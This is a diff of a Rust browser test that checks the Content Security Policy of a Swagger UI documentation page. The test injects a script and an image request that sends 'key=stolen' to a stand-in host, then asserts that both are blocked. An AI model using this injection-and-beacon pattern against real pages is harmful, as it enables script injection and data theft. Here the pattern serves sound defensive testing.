@@ -1,4 +1,5 @@
-//! The documentation page in a real browser: authorise, upload a picture, see the predictions.
+//! The documentation page in a real browser: authorise, upload a picture, see the predictions; and what is not of the page
+//! does not run in it.
 //!
 //! Drives headless Chromium over the WebDriver protocol (W3C), a handful of requests to `chromedriver`.
 #![forbid(unsafe_code)]
@@ -44,7 +45,8 @@ impl Browser {
             "--window-size=1280,2000".to_string(),
             format!("--user-data-dir={}", profile.path().display()),
         ];
-        let capabilities = json!({"capabilities": {"alwaysMatch": {"goog:chromeOptions": {"args": arguments}}}});
+        let wanted = json!({"goog:chromeOptions": {"args": arguments}, "goog:loggingPrefs": {"browser": "ALL"}});
+        let capabilities = json!({"capabilities": {"alwaysMatch": wanted}});
         let sessions = format!("http://127.0.0.1:{port}/session");
         let answer = Server::agent().post(&sessions).send_json(&capabilities).expect("chromedriver answers");
         let value: Value = common::read(Ok(answer)).json()["value"].clone();
@@ -89,7 +91,20 @@ impl Browser {
 
     fn text(&self, xpath: &str) -> String {
         let script = "return document.evaluate(arguments[0], document, null, 9, null).singleNodeValue?.innerText ?? ''";
-        self.post("execute/sync", &json!({"script": script, "args": [xpath]})).as_str().unwrap_or_default().to_string()
+        self.run(script, &[xpath])
+    }
+
+    fn run(&self, script: &str, arguments: &[&str]) -> String {
+        let answer = self.post("execute/sync", &json!({"script": script, "args": arguments}));
+        answer.as_str().unwrap_or_default().to_string()
+    }
+
+    /// What the browser has kept the page from since it was last asked, from its console.
+    fn violations(&self) -> Vec<String> {
+        let entries = self.post("se/log", &json!({"type": "browser"}));
+        let messages =
+            entries.as_array().expect("entries of the console").iter().map(|entry| entry["message"].to_string());
+        messages.filter(|message| message.contains("Content Security Policy")).collect()
     }
 }
 
@@ -132,4 +147,25 @@ fn a_person_authorises_uploads_a_picture_and_sees_the_predictions() {
     let shown = browser.text(&live);
     assert!(shown.starts_with("200"), "{shown}");
     assert!(shown.contains("\"predictions\"") && shown.contains("\"label\": \"Egyptian cat\""), "{shown}");
+
+    // Every other operation and every schema, opened.
+    browser.run(
+        "for (const closed of ['.opblock:not(.is-open) .opblock-summary-control', '.model-container .model-box-control'])
+             document.querySelectorAll(closed).forEach(button => button.click());",
+        &[],
+    );
+    browser.find("//div[contains(@class, 'opblock') and contains(@class, 'is-open')][.//span[@data-path='/metrics']]");
+    browser.find("//div[contains(@class, 'model-container')]//*[contains(text(), 'request_id')]");
+    let none: [String; 0] = [];
+    assert_eq!(browser.violations(), none, "the page does what its own policy forbids");
+    // What somebody slips into the page neither runs nor reaches another server.
+    browser.run(
+        "const script = document.createElement('script');
+         script.textContent = 'document.title = \"taken over\"';
+         document.body.append(script);
+         new Image().src = 'http://127.0.0.2:9/?key=stolen';",
+        &[],
+    );
+    assert_eq!(browser.run("return document.title", &[]), "Swagger UI");
+    assert_eq!(browser.violations().len(), 2);
 }
